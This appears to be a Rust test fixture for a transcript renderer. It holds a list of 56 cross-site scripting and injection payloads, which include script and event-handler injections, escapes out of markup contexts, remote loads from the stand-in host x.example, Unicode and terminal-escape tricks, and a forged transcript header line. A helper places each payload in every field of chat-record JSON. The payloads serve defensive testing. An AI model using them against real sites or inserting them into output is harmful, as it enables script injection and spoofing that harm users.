//! What people have tried: elements, handlers, addresses, escapes out of every place that content can stand in, and text that
//! would look like the transcript's own.

#![allow(dead_code, reason = "each test file uses its part")]

use serde_json::{Value, json};

use super::{answer, prompt};

/// The attacks. Whatever runs calls `alert`, and whatever is asked for is asked of `x.example`.
pub(crate) const CORPUS: [&str; 56] = [
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript></template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<scr\0ipt>alert(1)</script>",
    "<script/src=//x.example>",
    "<script src=https://x.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<img src=https://x.example/x.png>",
    "<img srcset=https://x.example/y.png>",
    "<video><source src=https://x.example/x.mp4 onerror=alert(1)></video>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><image href=https://x.example/x.svg /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=x>",
    "<base href=https://x.example/>",
    "<meta http-equiv=refresh content=0;url=https://x.example>",
    "<link rel=stylesheet href=https://x.example/x.css>",
    "<link rel=prefetch href=https://x.example/p>",
    "<form action=https://x.example><input name=a autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://x.example\" target=_blank>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import url(https://x.example)</style>",
    "<style>body{background:url(https://x.example/b.png)}</style>",
    "<p style=\"background:url(https://x.example/c.png)\">x</p>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' style='background:url(https://x.example)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "+ADw-script+AD4-alert(1)",
    "\u{feff}<script>\u{2028}alert(1)\u{2029}</script>",
    "\u{202e}>tpircs<\u{2066} \u{e0041}",
    "\r\n--- 2026-11-05T09:00:00Z  somebody else  prompt  BizChat\r\n  [id 1, run x, y line 1, record sha256 z]\u{1b}]8;;https://x.example\u{7}\u{9b}31m\u{8}\u{7f}",
];

/// The attack in every place that content comes from.
pub(crate) fn items(attack: &str) -> Vec<Value> {
    let mut prompt = prompt("2026-11-05T09:00:00Z", attack, attack, attack);
    prompt["requestId"] = json!(attack);
    prompt["appClass"] = json!(attack);
    prompt["locale"] = json!(attack);
    prompt["contexts"] = json!([{"contextReference": attack, "contextType": attack, "displayName": attack}]);
    let mut edited = prompt.clone();
    edited["etag"] = json!(format!("{attack}2"));
    let mut answer = answer("2026-11-05T09:00:01Z", attack, "2", attack, attack);
    answer["from"]["application"]["displayName"] = json!(attack);
    answer["links"] = json!([{"linkUrl": attack, "linkType": attack, "displayName": attack}]);
    let mut html = answer.clone();
    html["id"] = json!("3");
    html["body"] = json!({"contentType": "html", "content": format!("<p>{attack}</p>")});
    let mut raw = answer.clone();
    raw["id"] = json!("4");
    raw["attachments"] = json!([{"contentType": attack, "name": attack, "contentUrl": attack, "content": attack}]);
    let mut other = raw.clone();
    other["id"] = json!("5");
    other["interactionType"] = json!(attack);
    other["createdDateTime"] = json!(attack);
    vec![prompt, edited, answer, html, raw, other]
}
